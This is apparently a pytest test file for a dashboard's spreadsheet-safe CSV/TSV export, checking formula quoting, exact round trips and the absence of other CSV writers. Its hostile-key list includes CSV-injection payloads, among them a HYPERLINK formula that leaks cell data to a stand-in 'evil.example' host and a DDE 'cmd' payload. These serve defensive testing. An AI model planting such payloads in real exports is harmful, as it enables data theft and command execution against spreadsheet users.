"""One guarded writer for every CSV/TSV a user downloads (issue 19): formulas quoted for spreadsheets, the import of
an export undoes exactly the guard's quote and nothing else (round trip with hostile keys, CSV and TSV), and no
table leaves the dashboard's code by another writer."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from evalcore.text import FORMULA_STARTS, spreadsheet_csv, spreadsheet_safe, spreadsheet_unguard, spreadsheet_unguarded

REPO = Path(__file__).resolve().parents[1]

HOSTILE_KEYS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2", "@SUM(A1:A9)", "\tindented", "\rcarriage",
    "'=already quoted", "''=quoted twice", "'plain quote", "'", "''", "=", "-", "normal", "", "a,b", 'say "hi"',
    "line\nbreak", "-0.5", "1e5", "=1+2", "über=", " =leading space", "=cmd|' /C calc'!A0", "%2B1", "'-",
]


def read_back(text: str, sep: str) -> pd.DataFrame:
    """How an import reads an export: every cell as text, nothing taken for a missing value."""
    return pd.read_csv(io.StringIO(text), sep=sep, dtype=str, keep_default_na=False)


def formula_cells(table: pd.DataFrame, text_columns) -> int:
    """Column names and text cells a spreadsheet would run (numbers such as -0.5 are numbers to it)."""
    cells = [*table.columns, *table[text_columns].to_numpy().ravel()]
    return sum(isinstance(c, str) and c.startswith(FORMULA_STARTS) for c in cells)


@pytest.mark.parametrize("sep", [",", "\t"])
def test_hostile_keys_round_trip_exactly(sep):
    table = pd.DataFrame({"key": HOSTILE_KEYS, "=evil column": HOSTILE_KEYS[::-1],
                          "n": range(len(HOSTILE_KEYS)), "score": [-0.5 * i for i in range(len(HOSTILE_KEYS))]})
    text = spreadsheet_csv(table, sep=sep)
    written = read_back(text, sep)
    assert formula_cells(written, ["'=evil column", "key"]) == 0  # nothing a spreadsheet runs
    assert formula_cells(table, ["=evil column", "key"]) == 23  # (there were: 11 keys twice, and a name)
    back = spreadsheet_unguarded(written)
    assert list(back.columns) == list(table.columns)
    assert back["key"].tolist() == HOSTILE_KEYS and back["=evil column"].tolist() == HOSTILE_KEYS[::-1]
    assert back["n"].astype(int).tolist() == list(range(len(HOSTILE_KEYS)))
    assert back["score"].astype(float).tolist() == table["score"].tolist()  # numbers were never quoted
    assert "-0.5" in text.replace("'-0.5", "")  # the number -0.5 stays a number


@given(st.lists(st.text(alphabet=st.sampled_from(list("'=+-@\t\rab, \"\n")), max_size=8), min_size=1, max_size=20))
def test_the_unguard_is_the_exact_inverse(cells):
    """For any text: unguard(guard(x)) == x, and the guarded text never starts like a formula."""
    table = pd.DataFrame({"x": cells})
    guarded = spreadsheet_safe(table)["x"].tolist()
    assert [spreadsheet_unguard(g) for g in guarded] == cells
    assert not any(g.startswith(FORMULA_STARTS) for g in guarded)
    assert read_back(spreadsheet_csv(table), ",").pipe(spreadsheet_unguarded)["x"].tolist() == cells


def test_a_text_that_was_never_guarded_is_left_alone():
    """The import undoes the guard's quote and nothing else: a quote the user typed stays."""
    for text in ["'tis", "'", "''", "'a=b", "x'=y"]:
        assert spreadsheet_unguard(text) == text


def test_no_table_leaves_the_dashboard_by_another_writer():
    """The before-stop check of issue 19: ``.to_csv(`` in evalcore_app/, pages/ and app.py only where it is not a download
    (a digest of the annotation table, which the annotation work replaces)."""
    allowed = {("evalcore_app/sample.py", "    digest = hashlib.sha256(table.to_csv().encode()).hexdigest()")}
    found = []
    for path in [REPO / "app.py", *sorted((REPO / "evalcore_app").glob("*.py")), *sorted((REPO / "pages").glob("*.py"))]:
        for line in path.read_text(encoding="utf-8").splitlines():
            if re.search(r"\.to_csv\(", line) and (str(path.relative_to(REPO)), line) not in allowed:
                found.append(f"{path.relative_to(REPO)}: {line.strip()}")
    assert found == []
    config = (REPO / ".streamlit" / "config.toml").read_text()
    assert re.search(r"^disableDataExport = true$", config, re.M)  # Streamlit's own unguarded CSV of a table
